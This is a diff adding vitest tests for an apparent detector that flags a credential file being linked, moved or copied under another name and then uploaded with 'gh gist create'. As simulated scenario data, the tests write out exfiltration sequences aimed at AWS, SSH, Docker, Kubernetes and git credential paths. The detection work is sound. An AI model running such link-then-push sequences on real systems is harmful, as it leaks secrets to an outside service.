@@ -1,0 +1,59 @@
+/**
+ * A credential linked or renamed under another name and pushed by that name (found by red-team review):
+ * `ln ~/.aws/credentials /tmp/c` reads nothing, and `gh gist create /tmp/c` reads `/tmp/c`, so the push was
+ * `low` where reading the file directly makes it `high`. The link's command line names its source.
+ */
+import { describe, expect, it } from 'vitest';
+import { relinkedSources } from '../../../src/correlate/relinks.js';
+import { brief, run, Scenario } from './builder.js';
+
+/** `binary args` run first, then `gh gist create /tmp/c` reading /tmp/c. */
+function relinkThenGist(binary: string, args: string, source: 'tetragon' | 'falco' = 'tetragon') {
+  const s = new Scenario({ source });
+  const c = s.container({ namespace: 'prod', pod: 'api-1', name: 'api' });
+  const sh = s.init(c);
+  const ln = s.exec(c, binary, args, { parent: sh });
+  s.wait(10).exit(ln).wait(2_000);
+  const gh = s.exec(c, '/usr/bin/gh', 'gist create /tmp/c', { parent: sh });
+  s.read(gh, '/tmp/c', 116).wait(200).exit(gh);
+  return run(s.events).alerts;
+}
+
+describe('secrets linked or renamed before the push', () => {
+  for (const source of ['tetragon', 'falco'] as const) {
+    it(`a hard link to a credential counts as reading it (${source})`, () => {
+      const alerts = relinkThenGist('/bin/ln', '/root/.aws/credentials /tmp/c', source);
+      expect(brief(alerts)).toEqual([
+        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'gh', destination: 'api.github.com' },
+      ]);
+      expect(alerts[0]!.reads.sensitive).toEqual(['/root/.aws/credentials']);
+    });
+  }
+
+  it('so do mv, cp --reflink, busybox ln and a relative source', () => {
+    for (const [binary, args] of [
+      ['/bin/mv', '-f /root/.ssh/id_ed25519 /tmp/c'],
+      ['/bin/cp', '--reflink=always /root/.docker/config.json /tmp/c'],
+      ['/bin/busybox', 'ln /root/.kube/config /tmp/c'],
+      ['/bin/ln', '-t /tmp .git-credentials'],
+    ] as const)
+      expect(brief(relinkThenGist(binary, args))).toMatchObject([
+        { rule: 'sensitive-read-then-push', severity: 'high' },
+      ]);
+  });
+
+  it('links of ordinary files change nothing', () => {
+    expect(brief(relinkThenGist('/bin/ln', '-sf /app/config.yaml /tmp/c'))).toEqual([
+      { rule: 'push-without-reads', severity: 'low', tool: 'gh', destination: 'api.github.com' },
+    ]);
+  });
+
+  it('reads sources, not destinations, from the command line', () => {
+    expect(relinkedSources('/bin/ln', '-s /a /b')).toEqual(['/a']);
+    expect(relinkedSources('/bin/mv', '/a /b /dir')).toEqual(['/a', '/b']);
+    expect(relinkedSources('/bin/cp', '-t /dir -S .bak /a ./b')).toEqual(['/a', '/b']);
+    expect(relinkedSources('/bin/cp', '--target-directory=/dir /a')).toEqual(['/a']);
+    expect(relinkedSources('/bin/ln', '/a')).toEqual(['/a']);
+    expect(relinkedSources('/usr/bin/tar', 'cf /x /a')).toEqual([]);
+  });
+});
